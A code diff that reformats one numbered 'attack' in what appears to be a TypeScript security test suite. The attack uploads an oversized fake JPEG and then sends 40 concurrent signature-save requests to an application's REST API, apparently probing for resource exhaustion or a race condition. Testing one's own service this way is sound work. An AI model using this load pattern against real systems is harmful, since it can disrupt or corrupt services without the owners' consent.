@@ -5,7 +5,11 @@ const AT_ONCE = 40
 const PATIENT = 3_000
 
 /** A page of a picture that takes its time: the file is judged by printing it once. */
-const picture = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(1_500_000, 0x41), Buffer.from('ffd9', 'hex')])
+const picture = Buffer.concat([
+  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
+  Buffer.alloc(1_500_000, 0x41),
+  Buffer.from('ffd9', 'hex'),
+])
 
 export const attack: Attack = {
   number: '9',
@@ -16,12 +20,21 @@ export const attack: Attack = {
       select w."WrkID", p."PrsDocumentNumber" as document from "GenWorker" w join "GenNaturalPerson" n using ("NtpID") join "GenPerson" p using ("PrsID")
       join "SecUser" u on u."NtpID" = w."NtpID" where u."UsrName" = 'solicitante'`)
     const { body, type } = formOf(picture, `${worker?.document}.jpg`)
-    const kept = await fetch(`${rest}/api/v1.0/Helper/dropzone`, { method: 'POST', headers: { ...headers, 'content-type': type }, body: new Uint8Array(body) })
+    const kept = await fetch(`${rest}/api/v1.0/Helper/dropzone`, {
+      method: 'POST',
+      headers: { ...headers, 'content-type': type },
+      body: new Uint8Array(body),
+    })
     const { Result } = (await kept.json()) as { Result: { FilID: string } | null }
-    const save = () => fetch(`${rest}/api/v1.0/GenWorker/signature`, {
-      method: 'POST', headers: { ...headers, 'content-type': 'application/json' },
-      body: JSON.stringify({ WrkID: worker?.WrkID, WrkAttachImg: Result?.FilID }),
-    }).then(({ status }) => status, () => 0)
+    const save = () =>
+      fetch(`${rest}/api/v1.0/GenWorker/signature`, {
+        method: 'POST',
+        headers: { ...headers, 'content-type': 'application/json' },
+        body: JSON.stringify({ WrkID: worker?.WrkID, WrkAttachImg: Result?.FilID }),
+      }).then(
+        ({ status }) => status,
+        () => 0,
+      )
 
     let isOver = false
     const saves = Promise.all(Array.from({ length: AT_ONCE }, save)).finally(() => (isOver = true))
